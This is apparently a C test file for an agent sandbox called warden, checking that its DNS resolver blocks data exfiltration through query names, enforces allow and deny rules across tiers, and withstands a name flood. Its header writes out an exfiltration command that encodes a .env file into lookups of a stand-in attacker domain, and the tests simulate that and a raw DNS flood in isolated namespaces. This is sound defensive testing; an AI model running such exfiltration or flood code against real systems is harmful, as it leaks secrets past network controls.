/*
 * test_esc_lookup: the session's resolver decides each queried name before
 * any DNS server sees it, under the real `warden run`, in a network
 * namespace of the test's own (tests/helpers/netns.h) whose DNS server
 * (10.77.0.2) counts the queries it gets per name.
 *
 * The attack: a tool sends data out as query names
 * (`dig $(base32 .env).exfil.test`): the attacker's
 * authoritative server reads them, even where every connection is
 * refused. And: a process makes 8 more names resolve to the address of a
 * denied name, to push the denied name off that address.
 *
 * Safety: no packet leaves the test's namespaces; the files over /etc are
 * binds in the test's private mount namespace.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "common.h"
#include "netns.h"
#include "wt.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PY	 "/usr/bin/python3"
#define PORT	 "8080"
#define PORT_NUM 8080

static struct wt_netns ns;
static int lst_evil; /* 10.77.0.5:8080 */

enum {
	DNS_ALLOWED,
	DNS_EXFIL,
	DNS_CORP,
	DNS_WILD,
	DNS_FLOOD,
};

static const struct wt_dns_entry dns[] = {
	[DNS_ALLOWED] = {"allowed.test", "A allowed.test 10.77.0.2", NULL, false, false},
	[DNS_EXFIL] = {"*.exfil.test", "A * 10.77.0.2", NULL, false, false},
	/* The search domain's expansion of any name. */
	[DNS_CORP] = {"*.corp.test", "A * 10.77.0.2", NULL, false, false},
	/* Any name below resolves to the denied name's address. */
	[DNS_WILD] = {"*.wild.test", "A * 10.77.0.5", NULL, false, false},
	[DNS_FLOOD] = {"*.flood.test", "A * 10.77.0.2", NULL, false, false},
};

/* A query name as a tool would make it of a secret: base32, lower case. */
#define SECRET "mfrggzdfmztwq2lkonxw63tqmfzxg5dvoz3xq6lz"

struct fx {
	char *proj, *db;
};

static int setup(void **state)
{
	struct fx *f = wd_calloc(1, sizeof(*f));
	f->proj = wt_project();
	f->db = wd_asprintf("%s/.warden/audit.db", f->proj);
	wt_write(f->proj, "README.md", "# lookups\n");
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	wt_rmtree(f->proj);
	free(f->proj);
	free(f->db);
	free(f);
	return 0;
}

static int hits(size_t entry)
{
	return wt_netns_dns_hits(&ns, entry, 0) + wt_netns_dns_hits(&ns, entry, 1) +
	       wt_netns_dns_hits(&ns, entry, 2);
}

/* `warden run --stats --prompt none --tier TIER [--role review] -- python3
 * -c PRELUDE+BODY` with |config| as the project's permissions.json (NULL:
 * none). The agent itself is python (its start is allowed in every tier);
 * the prelude defines look(name) -> "NAME=ADDRESS" or "NAME=none". */
static const char prelude[] = "import socket, sys\n"
			      "def look(name):\n"
			      "  try:\n"
			      "    a = socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]\n"
			      "  except OSError:\n"
			      "    a = 'none'\n"
			      "  print('%s=%s' % (name, a), flush=True)\n";

static void run_py(struct fx *f, const char *tier, bool review, const char *config,
		   const char *body, struct wt_result *r)
{
	if (config)
		wt_write(f->proj, ".warden/permissions.json", config);
	char *code = wd_asprintf("%s%s", prelude, body);
	char *argv[16] = {"run", "--stats", "--prompt", "none", "--tier", (char *)tier};
	size_t n = 6;
	if (review) {
		argv[n++] = "--role";
		argv[n++] = "review";
	}
	argv[n++] = "--";
	argv[n++] = PY;
	argv[n++] = "-c";
	argv[n++] = code;
	argv[n] = NULL;
	wt_wardenv_prep(f->proj, argv, NULL, NULL, 120000, r);
	print_message("%s%s", r->out, r->err);
	free(code);
}

static int rows(struct fx *f, const char *source, const char *request, const char *reason)
{
	struct wt_audit_q q = {.decision = "deny",
			       .source = source,
			       .summary_sub = "lookup ",
			       .request_sub = request,
			       .reason_sub = reason};
	return wt_audit_match(f->db, &q);
}

/* Passive: the secret's name never reaches a DNS server, nor does its
 * search-domain expansion; one row for the name however often it was
 * asked (A, AAAA, glibc's retries, python's getaddrinfo). */
static void test_lookup_passive_exfil_refused(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_EXFIL), corp = hits(DNS_CORP);
	struct wt_result r;
	run_py(f, "passive", false, NULL,
	       "look('" SECRET ".exfil.test')\n"
	       "look('" SECRET ".EXFIL.test.')\n"
	       "try:\n"
	       "  socket.getaddrinfo('" SECRET ".exfil.test', 80)\n"
	       "except OSError:\n"
	       "  pass\n"
	       "look('" SECRET "')\n",
	       &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, SECRET ".exfil.test=none"));
	assert_non_null(strstr(r.out, SECRET "=none"));
	assert_null(strstr(r.out, "10.77.0.2"));
	assert_int_equal(hits(DNS_EXFIL), before);
	assert_int_equal(hits(DNS_CORP), corp);
	assert_int_equal(rows(f, "tier", "\"name\":\"" SECRET ".exfil.test\"", "passive mode: "),
			 1);
	assert_int_equal(rows(f, "tier", "\"name\":\"" SECRET ".exfil.test\",\"type\":\"A", NULL),
			 1);
	/* A single label goes out with the search suffix: another name,
	 * refused and rowed alike. */
	assert_int_equal(rows(f, "tier", "\"name\":\"" SECRET ".corp.test\"", NULL), 1);
	assert_non_null(strstr(r.err, "refused by policy"));
	assert_null(strstr(r.err, " 0 refused by policy"));
	wt_result_free(&r);
}

/* Passive: a name network.allow lists resolves (the server sees it). */
static void test_lookup_allowed_resolves_in_passive(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_ALLOWED);
	struct wt_result r;
	run_py(f, "passive", false, "{\"network\": {\"allow\": [\"allowed.test:443\"]}}\n",
	       "look('allowed.test')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "allowed.test=10.77.0.2"));
	assert_true(hits(DNS_ALLOWED) > before);
	assert_int_equal(rows(f, NULL, NULL, NULL), 0);
	wt_result_free(&r);
}

/* Aggressive: a name a deny entry matches is refused all the same. */
static void test_lookup_denied_refused_in_aggressive(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_EXFIL);
	struct wt_result r;
	/* Absolute (a final dot): glibc tries no search suffix, whose
	 * expansion (SECRET.exfil.test.corp.test) would be another name,
	 * undecided, and forwarded in this tier. */
	run_py(f, "aggressive", false, "{\"network\": {\"deny\": [\"*.exfil.test\"]}}\n",
	       "look('" SECRET ".exfil.test.')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, SECRET ".exfil.test.=none"));
	assert_int_equal(hits(DNS_EXFIL), before);
	assert_int_equal(rows(f, "rule", "\"name\":\"" SECRET ".exfil.test\"",
			      "network.deny entry \"*.exfil.test\" matches"),
			 1);
	wt_result_free(&r);
}

/* Aggressive: a name no entry knows is forwarded (the residual: its
 * connection is decided, the name itself is seen), with no row. */
static void test_lookup_aggressive_forwards_unknown(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_EXFIL);
	struct wt_result r;
	run_py(f, "aggressive", false, NULL, "look('known.exfil.test')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "known.exfil.test=10.77.0.2"));
	assert_true(hits(DNS_EXFIL) > before);
	assert_int_equal(rows(f, NULL, NULL, NULL), 0);
	wt_result_free(&r);
}

/* A review run (standard or aggressive tier) refuses names no entry
 * allows; the same run not in review forwards them. */
static void test_lookup_review_refuses_unknown(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_EXFIL);
	struct wt_result r;
	run_py(f, "standard", true, NULL, "look('review.exfil.test')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "review.exfil.test=none"));
	assert_int_equal(hits(DNS_EXFIL), before);
	assert_int_equal(rows(f, "tier", "\"name\":\"review.exfil.test\"", "review run: "), 1);
	wt_result_free(&r);
	/* The aggressive tier changes nothing for a review run: its
	 * connections are refused unless listed, and so are its lookups. */
	run_py(f, "aggressive", true, NULL, "look('review2.exfil.test')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "review2.exfil.test=none"));
	assert_int_equal(hits(DNS_EXFIL), before);
	assert_int_equal(rows(f, "tier", "\"name\":\"review2.exfil.test\"", "review run: "), 1);
	wt_result_free(&r);
	run_py(f, "standard", false, NULL, "look('agent.exfil.test')\n", &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "agent.exfil.test=10.77.0.2"));
	assert_true(hits(DNS_EXFIL) > before);
	assert_int_equal(rows(f, NULL, "\"name\":\"agent.exfil.test\"", NULL), 0);
	wt_result_free(&r);
}

static int count_fds(pid_t pid)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d)
		return -1;
	int n = 0;
	while (readdir(d))
		n++;
	closedir(d);
	return n;
}

static long vm_rss_kb(pid_t pid)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/status", pid);
	char *buf = NULL;
	long kb = -1;
	if (wd_read_file(p, 16384, &buf, NULL) == 0) {
		char *t = strstr(buf, "VmRSS:");
		if (t)
			kb = strtol(t + 6, NULL, 10);
	}
	free(buf);
	return kb;
}

/* 5,000 distinct denied names as fast as a script sends them: none is
 * forwarded, warden's descriptors and memory stay where they were, the
 * rows stop at the bound and one row counts the rest. */
static void test_lookup_flood_of_names_bounded(void **state)
{
	struct fx *f = *state;
	int before = hits(DNS_FLOOD);
	wt_write(f->proj, ".warden/permissions.json",
		 "{\"network\": {\"deny\": [\"*.flood.test\"]}}\n");
	const char *script =
		PY " -c 'import socket, struct, time\n"
		   "ns = [l.split()[1] for l in open(\"/etc/resolv.conf\") if "
		   "l.startswith(\"nameserver\")][0]\n"
		   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
		   "s.setblocking(False)\n"
		   "print(\"ready\", flush=True)\n"
		   "time.sleep(1)\n"
		   "refused = 0\n"
		   "def drain():\n"
		   "  global refused\n"
		   "  try:\n"
		   "    while True:\n"
		   "      a = s.recv(4096)\n"
		   "      refused += (a[3] & 15) == 5\n"
		   "  except BlockingIOError:\n"
		   "    pass\n"
		   "for i in range(5000):\n"
		   "  name = b\"\".join(bytes([len(p)]) + p for p in (b\"q%d\" % i, b\"flood\", "
		   "b\"test\")) + b\"\\0\"\n"
		   "  q = struct.pack(\">HHHHHH\", i & 0xffff, 0x100, 1, 0, 0, 0) + name + "
		   "struct.pack(\">HH\", 1, 1)\n"
		   "  try:\n"
		   "    s.sendto(q, (ns, 53))\n"
		   "  except BlockingIOError:\n"
		   "    time.sleep(0.001)\n"
		   "  if i % 64 == 0:\n"
		   "    time.sleep(0.002)\n"
		   "  drain()\n"
		   "time.sleep(1)\n"
		   "drain()\n"
		   "print(\"flood-done refused=%d\" % refused, flush=True)\n"
		   "time.sleep(2)\n"
		   "print(\"after\", flush=True)\n'";
	char *argv[] = {"run",	   "--stats", "--tier",	      "aggressive", "--",
			"/bin/sh", "-c",      (char *)script, NULL};
	struct wt_bg bg;
	wt_warden_bg(f->proj, argv, &bg);
	int fds0 = -1, fds_max = 0;
	long rss0 = -1, rss_max = 0;
	char *out = NULL;
	for (int i = 0; i < 600; i++) {
		free(out);
		out = wt_bg_out(&bg);
		if (strstr(out, "after"))
			break;
		if (strstr(out, "ready") && fds0 < 0) {
			fds0 = count_fds(bg.pid);
			rss0 = vm_rss_kb(bg.pid);
		}
		if (fds0 >= 0) {
			int k = count_fds(bg.pid);
			long kb = vm_rss_kb(bg.pid);
			fds_max = k > fds_max ? k : fds_max;
			rss_max = kb > rss_max ? kb : rss_max;
		}
		usleep(50000);
	}
	struct wt_result r;
	wt_bg_wait(&bg, 60000, &r);
	print_message("%s%s", r.out, r.err);
	print_message("warden: fds %d -> max %d, VmRSS %ld kB -> max %ld kB\n", fds0, fds_max, rss0,
		      rss_max);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "flood-done refused="));
	assert_null(strstr(r.out, "flood-done refused=0\n"));
	/* None reached the DNS server. */
	assert_int_equal(hits(DNS_FLOOD), before);
	assert_true(fds0 > 0);
	assert_true(fds_max <= fds0 + 8);
	assert_true(rss_max - rss0 < 16 * 1024);
	/* At most 1024 names have rows of their own; one row counts the rest. */
	int named = rows(f, "rule", ".flood.test\"", NULL);
	print_message("rows: %d\n", named);
	assert_int_equal(named, 1024);
	struct wt_audit_q q = {.decision = "deny", .summary_sub = "more names"};
	assert_int_equal(wt_audit_match(f->db, &q), 1);
	assert_non_null(strstr(r.err, "lookup rows dropped"));
	assert_null(strstr(r.err, "(0 lookup rows dropped)"));
	free(out);
	wt_result_free(&r);
}

/* A name a deny entry matches (from /etc/hosts: evil.test is 10.77.0.5)
 * stays on its address however many names the sandbox makes resolve to
 * it: a connection to the address is still refused. */
static void test_lookup_denied_name_not_pushed_out(void **state)
{
	struct fx *f = *state;
	int before = wt_netns_hits(&ns, lst_evil);
	struct wt_result r;
	run_py(f, "aggressive", false, "{\"network\": {\"deny\": [\"evil.test\"]}}\n",
	       "for i in range(12):\n"
	       "  look('n%d.wild.test' % i)\n"
	       "try:\n"
	       "  s = socket.create_connection(('10.77.0.5', " PORT "), timeout=5)\n"
	       "  s.sendall(b'x'); s.recv(16)\n"
	       "  print('connected')\n"
	       "except OSError as e:\n"
	       "  print('err', e.errno)\n",
	       &r);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "10.77.0.5"));
	assert_non_null(strstr(r.out, "err 13"));
	assert_null(strstr(r.out, "connected"));
	assert_int_equal(wt_netns_hits(&ns, lst_evil), before);
	struct wt_audit_q q = {.decision = "deny",
			       .source = "rule",
			       .reason_sub = "network.deny entry \"evil.test\" matches evil.test"};
	assert_int_equal(wt_audit_match(f->db, &q), 1);
	wt_result_free(&r);
}

int main(void)
{
	wt_require_sandbox();
	wt_netns_require(&ns);
	wt_netns_remote_addr(&ns, "10.77.0.5");
	wt_netns_etc(&ns, "/etc/resolv.conf", "nameserver 10.77.0.2\nsearch corp.test\n");
	wt_netns_etc(&ns, "/etc/hosts",
		     "127.0.0.1 localhost\n::1 localhost\n10.77.0.5 evil.test\n");
	wt_netns_dns(&ns, dns, sizeof(dns) / sizeof(dns[0]));
	lst_evil = wt_netns_listen(&ns, true, false, "10.77.0.5", PORT_NUM);
	const struct CMUnitTest tests[] = {
#define T(n) cmocka_unit_test_setup_teardown(test_lookup_##n, setup, teardown)
		T(passive_exfil_refused),	 T(allowed_resolves_in_passive),
		T(denied_refused_in_aggressive), T(aggressive_forwards_unknown),
		T(review_refuses_unknown),	 T(flood_of_names_bounded),
		T(denied_name_not_pushed_out),
#undef T
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	wt_netns_leave(&ns);
	return rc;
}
